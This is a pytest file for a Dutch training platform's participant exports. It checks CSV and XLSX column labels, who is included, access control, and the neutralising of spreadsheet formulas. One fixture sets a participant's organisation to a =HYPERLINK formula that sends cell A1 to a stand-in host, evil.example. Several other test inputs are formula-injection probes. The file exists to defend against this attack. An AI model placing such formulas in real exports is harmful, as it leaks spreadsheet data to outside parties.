"""Participant exports (CSV and XLSX): the columns, Dutch labels, and formula neutralising."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from tests.workspace.helpers import sign_in, staff, text
from werklab.extensions import db
from werklab.registration.models import RegistrationStatus, Sector
from werklab.spreadsheets import neutralise

HEADER = [
    "Naam",
    "E-mailadres",
    "Organisatie",
    "Sector",
    "Functie",
    "Status",
    "Leervraag",
    "Dieetwensen",
]
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")'


@pytest.fixture
def trainer(programme):
    user = staff("tineke@example.nl", "Tineke Trainer")
    programme.trainers.append(user)
    db.session.commit()
    return user


@pytest.fixture
def people(programme, factories):
    """Two participants (one with a formula for an organisation), one waiting, one cancelled."""
    programme.min_participants, programme.max_participants = 1, 2
    evil = factories.registration(
        programme,
        first_name="Eva",
        last_name="Evil",
        email="eva@example.nl",
        organisation=EVIL,
        sector=Sector.BUSINESS,
        job_title="+31 6 12345678",
        learning_question="-ik weet het nog niet",
        dietary_wishes="@vegan",
    )
    fine = factories.registration(
        programme,
        first_name="Bas",
        last_name="Aarts",
        email="bas@example.nl",
        organisation="Stichting Buurtkracht",
        sector=Sector.CIVIL_SOCIETY,
        job_title="Opbouwwerker",
        learning_question="Hoe verbind ik initiatieven?",
        dietary_wishes="Geen noten",
    )
    factories.registration(programme, first_name="Wendy", last_name="Wacht")
    gone = factories.registration(programme, first_name="Carl", last_name="Cancel")
    gone.status = RegistrationStatus.CANCELLED
    db.session.commit()
    return evil, fine


def test_csv_export(client, programme, trainer, people):
    sign_in(client, trainer)
    response = client.get(f"/werkruimte/{programme.id}/deelnemers.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith(f'attachment; filename="deelnemers-{programme.slug}-')
    assert disposition.endswith('.csv"')
    assert response.headers["Cache-Control"] == "no-store"
    assert response.data.startswith("\ufeff".encode())  # Excel reads it as UTF-8

    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == HEADER
    assert rows[1] == [
        "Bas Aarts",
        "bas@example.nl",
        "Stichting Buurtkracht",
        "Maatschappelijke organisatie",
        "Opbouwwerker",
        "Bevestigd",
        "Hoe verbind ik initiatieven?",
        "Geen noten",
    ]
    assert rows[2] == [
        "Eva Evil",
        "eva@example.nl",
        "'" + EVIL,
        "Onderneming",
        "'+31 6 12345678",
        "Bevestigd",
        "'-ik weet het nog niet",
        "'@vegan",
    ]
    assert len(rows) == 3  # not the waiting list, not the cancelled registration
    assert "Wendy" not in text(response) and "Carl" not in text(response)


def test_xlsx_export(client, programme, trainer, people):
    sign_in(client, trainer)
    response = client.get(f"/werkruimte/{programme.id}/deelnemers.xlsx")
    assert response.status_code == 200
    assert response.mimetype == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response.headers["Content-Disposition"].endswith('.xlsx"')
    assert response.headers["Cache-Control"] == "no-store"

    sheet = load_workbook(io.BytesIO(response.data)).active
    values = [[cell.value or "" for cell in row] for row in sheet.iter_rows()]
    assert values[0] == HEADER
    assert values[1][0] == "Bas Aarts"
    assert values[1][3] == "Maatschappelijke organisatie"
    evil = values[2]
    assert evil[0] == "Eva Evil"
    assert evil[2] == "'" + EVIL
    assert evil[4] == "'+31 6 12345678"
    assert evil[6] == "'-ik weet het nog niet"
    assert evil[7] == "'@vegan"
    assert len(values) == 3
    # No cell is a formula: every one is stored as text.
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n"}
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Gemeente = Arnhem", "Gemeente = Arnhem"),
        ("", ""),
        (None, ""),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_exports_are_only_for_the_programmes_trainers_and_coordinators(
    client, programme, people, factories
):
    other = staff("yara@example.nl", "Yara Trainer")
    factories.programme().trainers.append(other)
    db.session.commit()
    sign_in(client, other)
    for ext in ("csv", "xlsx"):
        response = client.get(f"/werkruimte/{programme.id}/deelnemers.{ext}")
        assert response.status_code == 403
        assert b"eva@example.nl" not in response.data
